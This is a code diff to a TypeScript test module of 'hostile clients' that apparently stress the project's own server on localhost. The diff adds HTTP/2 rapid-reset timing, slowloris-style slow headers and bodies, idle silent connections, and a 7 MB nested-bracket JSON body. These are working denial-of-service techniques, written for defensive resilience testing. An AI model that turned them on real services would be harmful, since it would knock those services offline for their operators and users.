@@ -1,4 +1,6 @@
 // Hostile clients: each attack runs until it is told to stop, opens a new connection where the service closes one, and counts what it did.
+
+import type { TLSSocket } from "node:tls";
 import {
   FrameConnection,
   frames,
@@ -33,6 +35,8 @@ export type Attack = (target: Target) => Promise<Damage>;
 
 /** Frames in one write: small enough that a connection sees its end before it has sent much more. */
 const batch = 100;
+/** A connection that has done its part and is not closed is given up after this. */
+const nextMilliseconds = 200;
 
 /** Runs `drive` on so many connections at a time, each again and again until the attack is over. */
 async function onConnections(
@@ -84,7 +88,7 @@ const rapidReset: Attack = (target) => {
       await connection.send(...streams.flatMap((stream) => [frames.headers(stream, block), frames.reset(stream)]));
       count(batch);
     }
-    await connection.until(() => connection.goAwayCode !== undefined);
+    await Promise.race([connection.until(() => connection.goAwayCode !== undefined), Bun.sleep(nextMilliseconds)]);
   });
 };
 
@@ -168,19 +172,78 @@ const closedWindows: Attack = (target) => {
   );
 };
 
-/** Connections that do nothing but be made. */
-const handshakes: Attack = async ({ port, connections, isOver }) => {
+/** Runs `drive` on so many TLS connections at a time, each again and again until the attack is over. */
+async function onSockets(
+  { port, connections, isOver }: Target,
+  drive: (socket: TLSSocket, damage: Damage) => Promise<void>,
+): Promise<Damage> {
   const damage: Damage = { connections: 0, sent: 0, answered: 0, ended: 0 };
   const worker = async () => {
     while (!isOver()) {
       const socket = await openTls(port, { rejectUnauthorized: false }).catch(() => undefined);
-      socket?.destroy();
+      if (!socket) continue;
       damage.connections += 1;
+      socket.on("error", () => undefined);
+      socket.on("data", () => undefined);
+      await drive(socket, damage);
+      if (socket.destroyed) damage.ended += 1;
+      socket.destroy();
     }
   };
   await Promise.all(Array.from({ length: connections }, worker));
   return damage;
+}
+
+/** Sends some bytes at a time for as long as the connection lives. */
+const slowly =
+  (begin: (target: Target) => string, more: string): Attack =>
+  (target) =>
+    onSockets(target, async (socket, damage) => {
+      socket.write(begin(target));
+      while (!target.isOver() && !socket.destroyed) {
+        socket.write(more);
+        damage.sent += 1;
+        await Bun.sleep(500);
+      }
+    });
+
+const headOf = ({ request: { key } }: Target, method: string, path: string, length?: number): string =>
+  [
+    `${method} ${path} HTTP/1.1`,
+    "Host: localhost",
+    `Authorization: Bearer ${key}`,
+    ...(length === undefined ? [] : [`Content-Length: ${length}`]),
+    "",
+  ].join("\r\n");
+
+const slowHeaders = slowly((target) => headOf(target, "GET", target.request.path), "X-More: m\r\n");
+
+const slowBodies = slowly((target) => `${headOf(target, "POST", "/api/snippet", 60_000)}\r\n`, "x");
+
+/** Connections that say nothing. */
+const silence: Attack = (target) =>
+  onSockets(target, async (socket) => {
+    while (!target.isOver() && !socket.destroyed) await Bun.sleep(100);
+  });
+
+/** Bodies of brackets alone. */
+const deepJson: Attack = (target) => {
+  const body = Buffer.alloc(7 * 1024 * 1024, "[");
+  return onSockets(target, async (socket, damage) => {
+    socket.write(`${headOf(target, "POST", "/api/snippet", body.length)}\r\n`);
+    const answered = new Promise<void>((resolve) => {
+      socket.once("data", () => resolve());
+      socket.once("close", () => resolve());
+    });
+    socket.write(body);
+    damage.sent += 1;
+    await answered;
+    if (!socket.destroyed) damage.answered += 1;
+  });
 };
+
+/** Connections that do nothing but be made. */
+const handshakes: Attack = (target) => onSockets(target, async () => undefined);
 
 export const attacks = {
   rapidReset,
@@ -191,4 +254,9 @@ export const attacks = {
   headerBombs,
   closedWindows,
   handshakes,
+  slowHeaders,
+  slowBodies,
+  silence,
+  deepJson,
 } as const satisfies Record<string, Attack>;
+export type AttackName = keyof typeof attacks;
